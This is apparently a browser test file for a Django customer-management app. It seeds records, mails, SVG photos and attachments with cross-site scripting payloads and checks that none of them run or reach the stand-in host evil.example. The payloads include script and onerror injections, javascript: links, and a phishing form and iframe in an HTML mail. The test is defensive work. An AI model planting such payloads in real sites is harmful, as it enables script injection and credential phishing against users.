"""Hostile content in a real browser: whatever it tries, nothing of it runs and nothing of it calls home."""

from urllib.parse import urlsplit

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import timezone
from playwright.sync_api import Browser, Page, Request, expect

from customers.models import Customer
from interactions.models import Attachment, Interaction
from partnership.desk.models import SavedView
from partnership.notifications.models import Notification
from partnership.staff.models import Firm, User
from tests.e2e.story import Story
from tests.everything import tell_everything
from tests.factories import UserFactory, happens

pytestmark = pytest.mark.browser

BAD = """'"></textarea></title><script>__pwned("script")</script><img src=x onerror=__pwned("img")>"""
BAD += "<svg onload=__pwned('svg')><a href=javascript:__pwned('link')>x</a>"
SHORT = "'\"><img src=x onerror=__pwned(1)>"

MAIL = """<h1>Offer</h1><script>parent.__pwned("mail")</script><img src=x onerror="parent.__pwned('mail img')">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/form"><input name=password><button>Sign in</button></form>
<link rel=stylesheet href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";
body{background:url(https://evil.example/c.png)}</style>
<div style="position:fixed;inset:0;background:url(//evil.example/d)"
>over</div><meta http-equiv=refresh content="0;url=https://evil.example/e"><base href="https://evil.example/">
<a href="javascript:parent.__pwned('mail link')" onclick="parent.__pwned('click')">Pay here</a>
<svg><script>parent.__pwned("mail svg")</script></svg>
<math><mi xlink:href="javascript:parent.__pwned('math')">m</mi></math>
<video src="https://evil.example/v" onerror="parent.__pwned('video')"></video><p>The end</p>
<img data-remote-src="https://pictures.example/logo.png" alt="Logo">"""

SVG = """<svg xmlns="http://www.w3.org/2000/svg"><script>parent.__pwned&amp;&amp;parent.__pwned("face");document.title="owned"
</script><image href="https://evil.example/face.png" width="9" height="9" onerror="alert(1)"/></svg>"""


@pytest.fixture
def watched(browser: Browser, server, signed_in, page: Page):
    """Pages of a browser that writes down what is tried: (page, what happened)."""
    happened: list[str] = []
    context = browser.new_context(viewport={"width": 1440, "height": 900}, locale="en-GB", timezone_id="UTC")
    context.set_default_timeout(15_000)
    context.expose_function("__pwned", lambda *said: happened.append(f"ran: {said}"))
    home = urlsplit(server.url).netloc

    def on_request(request: Request) -> None:
        """One that left the browser: what the policy forbids fails before."""
        abroad = urlsplit(request.url).scheme in ("http", "https") and urlsplit(request.url).netloc != home
        if abroad and request.failure != "csp":
            happened.append(f"called {request.url}")

    context.on("requestfinished", on_request)
    context.on("requestfailed", on_request)
    context.on("dialog", lambda dialog: (happened.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    context.on("page", lambda opened: opened.on("pageerror", lambda error: happened.append(f"error: {error}")))
    window = context.new_page()

    def as_user(user: User) -> Page:
        signed_in(user)
        context.add_cookies(page.context.cookies())
        return window

    yield as_user, happened
    context.close()


@pytest.fixture
def poisoned(story: Story, settings, tmp_path) -> Customer:
    settings.MEDIA_ROOT = tmp_path
    sam, customer = story.sam, story.champion
    told = tell_everything(customer, by=UserFactory(name=SHORT), colleague=UserFactory(name=SHORT), viewer=sam)
    Customer.objects.filter(pk=customer.pk).update(
        name=BAD, preferred_name=SHORT, about=BAD, role=SHORT, tags=[SHORT], attributes={SHORT: BAD}
    )
    Interaction.objects.filter(customer=customer).exclude(source="mail").update(subject=BAD, body=BAD, quoted=BAD)
    Interaction.objects.filter(customer=customer, source="mail").update(html=MAIL, subject=BAD, body=BAD)
    customer.goals.update(title=BAD, why=BAD, unit=SHORT, measure=SHORT)
    customer.commitments.update(what=BAD)
    customer.contact_points.update(value=BAD)
    customer.conversations.update(subject=BAD)
    customer.deletions.update(reason=BAD)
    Notification.objects.update(text=BAD)
    SavedView.objects.update(name=SHORT)
    told.customer.photo.save("face.svg", ContentFile(SVG.encode()))
    row = Interaction.objects.get(pk=told.keys["customers/"]["entry_pk"])
    for name, kind, content in ((f"{SHORT}.svg", "image/svg+xml", SVG), (f"{SHORT}.html", "text/html", BAD)):
        file = Attachment(interaction=row, name=name, content_type=kind, size=len(content), sha256="1" * 64)
        file.external_id = name
        file.file.save("attached", ContentFile(content.encode()))
        file.file.close()
    happens(customer, "message", at=timezone.now(), subject="Markdown", body=f"[x](javascript:__pwned(2)) {BAD}")
    customer.mail, customer.thread = row, told.thread
    return customer


def test_nothing_of_it_runs(story: Story, server, poisoned: Customer, watched):
    as_user, happened = watched
    page = as_user(story.sam)
    pk, thread, mail = poisoned.pk, poisoned.thread.pk, poisoned.mail.pk
    for path in (
        "/", "/customers/", "/customers/?q=img", f"/customers/{pk}/", f"/customers/{pk}/timeline/?q=img",
        f"/customers/{pk}/timeline/?print=1", f"/customers/{pk}/history/", f"/customers/{pk}/about/",
        f"/customers/{pk}/details/", f"/customers/{pk}/why/", f"/customers/{pk}/entries/{mail}/",
        f"/conversations/{thread}/", f"/conversations/{thread}/handover/", f"/conversations/{thread}/joining/",
        "/search/?q=img&tab=entries", "/wall/", "/notifications/", "/customers/views/", "/group-session/?q=img",
        f"/customers/{pk}/replies/", f"/search/?q={SHORT}",
    ):  # fmt: skip
        page.goto(server.url + path)
        page.wait_for_load_state("networkidle")
        assert not happened, path


def test_the_mail_in_its_frame(story: Story, server, poisoned: Customer, watched):
    as_user, happened = watched
    page = as_user(story.sam)
    url = f"{server.url}/customers/{poisoned.pk}/entries/{poisoned.mail.pk}/"
    page.goto(f"{url}?show=sent#as-sent")
    mail = page.frame_locator("iframe")
    expect(mail.get_by_text("The end")).to_be_visible()
    assert mail.locator("script, iframe, object, form, input, link, base, meta[http-equiv], svg, video").count() == 0
    assert mail.locator("[style], [onclick], [onerror], [href^=javascript]").count() == 0
    mail.get_by_text("Pay here").click()
    assert not happened
    page.context.route("https://pictures.example/**", lambda route: route.fulfill(body="", content_type="image/png"))
    page.goto(f"{url}?show=pictures#as-sent")
    expect(page.frame_locator("iframe").get_by_text("The end")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert happened == ["called https://pictures.example/logo.png"]
    page.goto(f"{url}mail/")  # without the frame around it
    expect(page.get_by_text("The end")).to_be_visible()
    assert len(happened) == 1


def test_a_face_and_files_that_are_pages(story: Story, server, poisoned: Customer, watched):
    as_user, happened = watched
    page = as_user(story.sam)
    photo = f"/media/{Customer.objects.get(pk=poisoned.pk).photo.name}"
    client = Client()
    client.force_login(story.sam)
    answer = client.get(photo)
    served = {"status": answer.status_code, "headers": dict(answer.headers), "body": answer.getvalue()}
    # Django's test server answers for /media/ by itself; this is what the app says.
    page.route("**/media/**", lambda route: route.fulfill(**served))
    page.goto(server.url + photo)
    page.wait_for_load_state("networkidle")
    assert page.title() != "owned"
    assert page.locator("image").count() == 1
    for file in Attachment.objects.filter(interaction=poisoned.mail):
        answer = page.request.get(f"{server.url}/attachments/{file.pk}/")
        assert answer.headers["content-type"] in ("application/octet-stream", "image/png")
        assert "sandbox" in answer.headers["content-security-policy"]
        preview = page.goto(f"{server.url}/attachments/{file.pk}/preview/")
        assert preview is not None
        assert preview.ok
    assert not happened


def test_the_admin_works_under_the_policy(story: Story, server, poisoned: Customer, watched):
    """Its date pickers, its finder of other rows, its filters: without a script in the page."""
    as_user, happened = watched
    page = as_user(UserFactory(admin=True))
    refused: list[str] = []
    page.on("console", lambda said: refused.append(said.text) if said.type == "error" else None)
    page.goto(f"{server.url}/admin/customers/customer/{poisoned.pk}/change/")
    page.locator(".select2-selection").first.click()
    expect(page.locator(".select2-results__option").first).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("link", name="Today").first.click()
    assert page.locator("#id_since").input_value() == f"{Firm.current().local_date(timezone.now()):%Y-%m-%d}"
    page.get_by_title("Choose a Date").or_(page.locator(".date-icon")).first.click()
    expect(page.locator(".calendarbox").first).to_be_visible()
    for path in ("interactions/interaction/", "customers/customer/", "desk/", "staff/user/"):
        page.goto(f"{server.url}/admin/{path}")
        page.wait_for_load_state("networkidle")
    assert not happened
    assert not [said for said in refused if "404" not in said], refused
